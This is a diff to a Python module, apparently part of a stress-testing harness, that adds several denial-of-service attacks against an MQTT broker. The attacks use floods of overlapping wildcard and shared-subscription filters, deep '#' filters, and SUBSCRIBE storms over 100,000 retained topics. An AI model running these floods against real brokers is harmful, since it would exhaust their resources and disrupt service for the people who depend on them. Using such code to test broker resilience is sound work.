@@ -41,25 +41,70 @@ def long_filters(target: Target, until_s: float) -> None:
             read_exactly(sock, 5)
 
 
-def overlapping_filters(target: Target, until_s: float, levels: int = 14) -> None:
-    """2^levels filters that match the same topics, and 100 messages a second to new ones."""
-    filters = [
-        "/".join("+" if number >> level & 1 else "a" for level in range(levels)) + "/+" for number in range(1 << levels)
+def combinations(levels: int, end: str) -> list[str]:
+    """2^levels filters that match the same topics."""
+    return [
+        "/".join("+" if number >> level & 1 else "a" for level in range(levels)) + end for number in range(1 << levels)
     ]
-    topic = "a/" * levels
+
+
+def publish_to_new_topics(target: Target, until_s: float, readers: list[list[str]], topic: str) -> None:
+    """Clients with many filters each, and 100 messages a second to new topics that begin alike."""
     with suppress(OSError, LoadFailed), ExitStack() as stack:
-        reader = stack.enter_context(open_client(target.port, "attacker-reader"))
+        socks = [stack.enter_context(open_client(target.port, f"attacker-{at}")) for at in range(len(readers))]
         writer = stack.enter_context(open_client(target.port, "attacker-writer"))
-        reader.sendall(subscribes_of(filters))
-        reader.setblocking(False)
+        for sock, filters in zip(socks, readers, strict=True):
+            sock.sendall(subscribes_of(filters))
+            sock.setblocking(False)
         number = 0
         while time.monotonic() < until_s:
             number += 1
-            name = f"{topic}{number}".encode()
-            writer.sendall(bytes([0x30, 2 + len(name)]) + len(name).to_bytes(2) + name)
-            with suppress(BlockingIOError):
-                reader.recv(CHUNK_BYTES)
+            writer.sendall(packets.publish_to(f"{topic}{number}", b"", 0))
+            for sock in socks:
+                with suppress(BlockingIOError):
+                    sock.recv(CHUNK_BYTES)
             time.sleep(0.01)
+
+
+def overlapping_filters(target: Target, until_s: float) -> None:
+    """2^14 filters of one client."""
+    publish_to_new_topics(target, until_s, [combinations(14, "/+")], "a/" * 14)
+
+
+def ten_overlapping(target: Target, until_s: float) -> None:
+    """2^14 filters of each of ten clients."""
+    publish_to_new_topics(target, until_s, [combinations(14, "/+")] * 10, "a/" * 14)
+
+
+def ten_sharing(target: Target, until_s: float) -> None:
+    """2^11 share filters of each of ten clients."""
+    shares = [[f"$share/{at}/{name}" for name in combinations(11, "/+")] for at in range(10)]
+    publish_to_new_topics(target, until_s, shares, "a/" * 11)
+
+
+def spread_overlapping(target: Target, until_s: float) -> None:
+    """The 2^14 filters of 64 clients together, with `#` at the end."""
+    filters = combinations(14, "/#")
+    publish_to_new_topics(target, until_s, [filters[at::64] for at in range(64)], "a/" * 14)
+
+
+def hashes_at_each_level(target: Target, until_s: float) -> None:
+    """2^0 to 2^7 filters that end in `#` at each of 128 levels, with wildcards in the last levels."""
+    filters = [f"{'a/' * depth}{part}" for depth in range(100) for part in combinations(7, "/#")]
+    publish_to_new_topics(target, until_s, [filters], "a/" * 110)
+
+
+def searches_in_vain(target: Target, until_s: float) -> None:
+    """10,000 SUBSCRIBEs of four clients whose wildcards find nothing among 100,000 retained topics."""
+    with suppress(OSError, LoadFailed), open_client(target.port, "attacker-retains") as sock:
+        for begin in range(0, 100_000, 1_000):
+            names = [f"{number}/a/{number % 100}/b" for number in range(begin, begin + 1_000)]
+            sock.sendall(b"".join(packets.publish_to(name, b"x", 0, retain=True) for name in names))
+        sock.sendall(packets.PINGREQ)
+        read_exactly(sock, 2)
+    shapes = ("+/x{}", "+/+/+/none{}", "+/a/+/none{}/#", "+/+/none{}/+")
+    filters = [shapes[number % len(shapes)].format(number) for number in range(10_000)]
+    flood(mqtt(target), 4, b"".join(packets.subscribe([name], 0) for name in filters), until_s)
 
 
 ATTACKS: Final = {
@@ -67,4 +112,9 @@ ATTACKS: Final = {
     "deep-filters": Attack(deep_filters),
     "long-filters": Attack(long_filters),
     "overlapping-filters": Attack(overlapping_filters),
+    "ten-overlapping": Attack(ten_overlapping),
+    "ten-sharing": Attack(ten_sharing),
+    "spread-overlapping": Attack(spread_overlapping),
+    "hashes-at-each-level": Attack(hashes_at_each_level),
+    "searches-in-vain": Attack(searches_in_vain),
 }
